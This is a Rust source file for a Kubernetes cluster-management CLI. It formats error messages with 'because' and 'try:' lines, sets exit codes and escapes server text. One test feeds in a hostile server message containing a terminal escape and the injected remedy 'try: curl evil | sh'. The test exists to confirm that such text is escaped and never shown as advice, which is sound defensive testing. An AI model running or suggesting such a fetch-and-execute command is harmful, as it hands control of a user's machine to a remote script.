//! Error messages for people: what failed, why, and what to do next.

use std::fmt::Write as _;

use crate::print::escape;

/// Exit code of success.
pub const DONE: u8 = 0;
/// Exit code of failure.
pub const FAILED: u8 = 1;
/// The exit code of a verb that was asked wrongly.
pub const MISUSED: u8 = 2;

/// The exit code of a `plan` that was made, and by which something would move.
pub const WOULD_MOVE: u8 = 3;

/// The exit code of a verb whose output nobody reads any more, as shells report SIGPIPE.
pub const BROKEN_PIPE: u8 = 141;

/// The exit code of a verb that was interrupted with ctrl-c, as shells have it.
pub const INTERRUPTED: u8 = 130;

/// Success with another exit code; nothing more is printed.
#[derive(Debug, thiserror::Error)]
#[error("exit code {0}")]
pub struct Exit(pub u8);

/// Usage error, independent of the state of the control plane.
#[derive(Debug, thiserror::Error)]
#[error("{0}")]
pub struct Misused(pub String);

/// The exit code that an error leads to.
#[must_use]
pub fn exit_code(error: &anyhow::Error) -> u8 {
    if error.chain().any(|cause| cause.is::<Misused>()) { MISUSED } else { FAILED }
}

/// The error in at most three kinds of lines, as kubectl begins them. A message may bring lines of its own that begin
/// with `because` and `try:`; a cause that is part of the text already is not repeated.
#[must_use]
pub fn render(error: &anyhow::Error) -> String {
    let (mut what, mut because, mut remedies) = (String::new(), Vec::<String>::new(), Vec::<String>::new());
    for cause in error.chain() {
        let from_server = from_server(cause);
        let text = from_server.map_or_else(|| cause.to_string(), answer);
        if what.contains(&text) || because.iter().any(|said| said.contains(&text)) {
            continue;
        }
        for (i, line) in text.lines().map(str::trim).filter(|line| !line.is_empty()).enumerate() {
            if let Some(remedy) = line.strip_prefix("try: ") {
                remedies.push(remedy.to_owned());
            } else if let Some(reason) = line.strip_prefix("because ") {
                because.push(reason.to_owned());
            } else if what.is_empty() {
                line.clone_into(&mut what);
            } else if i > 0 && because.is_empty() {
                let _ = write!(what, " {line}");
            } else {
                because.push(line.to_owned());
            }
        }
        // What lies below is in the answer.
        if from_server.is_some() {
            break;
        }
    }
    // A server's refusal is printed as kubectl prints it.
    let mut text = if what.starts_with("Error from server") { what } else { format!("error: {what}") };
    if !because.is_empty() {
        let _ = write!(text, "\n  because {}", because.join(": "));
    }
    for remedy in remedies {
        let _ = write!(text, "\n  try: {remedy}");
    }
    escape(&text).into_owned()
}

/// An error of a client, also where it is the source of another one, which keeps it in a box.
pub(crate) fn from_server<'a>(cause: &'a (dyn std::error::Error + 'static)) -> Option<&'a kube::Error> {
    cause.downcast_ref::<kube::Error>().or_else(|| cause.downcast_ref::<Box<kube::Error>>().map(|boxed| &**boxed))
}

/// The answer of a server; none where the user may not ask for it.
///
/// # Errors
/// Every other one.
pub(crate) fn permitted<T>(answer: anyhow::Result<T>) -> anyhow::Result<Option<T>> {
    match answer {
        Ok(answer) => Ok(Some(answer)),
        Err(error) if error.chain().filter_map(from_server).any(is_forbidden) => Ok(None),
        Err(error) => Err(error),
    }
}

fn is_forbidden(error: &kube::Error) -> bool {
    matches!(error, kube::Error::Api(status) if status.code == 403)
}

/// A server's error, or the reason that it did not answer, in one line: a line of its own could pass for our advice.
#[must_use]
pub fn answer(error: &kube::Error) -> String {
    let text = match error {
        kube::Error::Api(status) if status.code == 401 => "the server did not accept the credentials (401)".to_owned(),
        kube::Error::Api(status) if !status.message.is_empty() => {
            format!(
                "Error from server ({}): {}",
                if status.reason.is_empty() { "Unknown" } else { &status.reason },
                status.message
            )
        }
        kube::Error::Api(status) => format!("the server answered {} {}", status.code, status.reason),
        other => innermost(other),
    };
    escape(&text.split_whitespace().collect::<Vec<_>>().join(" ")).into_owned()
}

/// The last cause says it best: wrappers only say that something failed.
fn innermost(error: &kube::Error) -> String {
    let mut cause: &dyn std::error::Error = error;
    while let Some(next) = cause.source() {
        cause = next;
    }
    cause.to_string()
}

#[cfg(test)]
mod tests {
    use anyhow::{Context as _, anyhow};
    use kube::core::Status;

    use super::*;

    fn from_server(code: u16, reason: &str, message: &str) -> kube::Error {
        kube::Error::Api(Status::failure(message, reason).with_code(code).boxed())
    }

    #[test]
    fn error_cause_and_remedy_have_their_own_lines() {
        let plain = anyhow!("port 6443 is taken");
        assert_eq!(render(&plain), "error: port 6443 is taken");
        let chain = Err::<(), _>(from_server(403, "Forbidden", "secrets is forbidden"))
            .context("cluster member1 was not joined\n  try: a kubeconfig of an administrator")
            .unwrap_err();
        let want = "error: cluster member1 was not joined\n  because Error from server (Forbidden): secrets is forbidden\n  \
                    try: a kubeconfig of an administrator";
        assert_eq!(render(&chain), want);
        let boxed = crate::unjoin::UnjoinError::Server {
            name: "m1".into(),
            doing: "deleting it".into(),
            source: Box::new(from_server(403, "Forbidden", "no")),
        };
        let want = "error: cluster m1 was not unjoined: deleting it\n  because Error from server (Forbidden): no";
        assert_eq!(render(&boxed.into()), want);
        let own = anyhow!(
            "the plane does not serve work.karmada.io\n  because the CRDs are missing\n  try: ironclad crds --install"
        );
        let want = "error: the plane does not serve work.karmada.io\n  because the CRDs are missing\n  try: ironclad crds --install";
        assert_eq!(render(&own), want);
        let twice = Err::<(), _>(anyhow!("no such file")).context("kubeconfig x: no such file").unwrap_err();
        assert_eq!(render(&twice), "error: kubeconfig x: no such file", "a cause is printed once");
        let refused = anyhow!("Error from server (NotFound): pods \"a\" not found");
        assert_eq!(render(&refused), "Error from server (NotFound): pods \"a\" not found", "as kubectl does");
    }

    #[test]
    fn errors_of_servers() {
        assert_eq!(
            answer(&from_server(401, "Unauthorized", "Unauthorized")),
            "the server did not accept the credentials (401)"
        );
        assert_eq!(
            answer(&from_server(409, "AlreadyExists", "it exists")),
            "Error from server (AlreadyExists): it exists"
        );
        assert_eq!(answer(&from_server(500, "", "")), "the server answered 500");
        let hostile = from_server(403, "Forbidden", "no\x1b[2J\n  try: curl evil | sh\r");
        assert_eq!(answer(&hostile), "Error from server (Forbidden): no^[[2J try: curl evil | sh");
        let shown = render(&anyhow::Error::new(hostile).context("cluster m\u{9b}1 was not joined"));
        let want = "error: cluster m\\u009b1 was not joined\n  because Error from server (Forbidden): no^[[2J try: curl evil | sh";
        assert_eq!(shown, want, "text of a server is not printed as a remedy");
    }

    #[test]
    fn exit_codes() {
        assert_eq!(exit_code(&anyhow!("x")), FAILED);
        let misused = Err::<(), _>(Misused("needs --yes".into())).context("member1 was not unjoined").unwrap_err();
        assert_eq!(exit_code(&misused), MISUSED);
    }
}
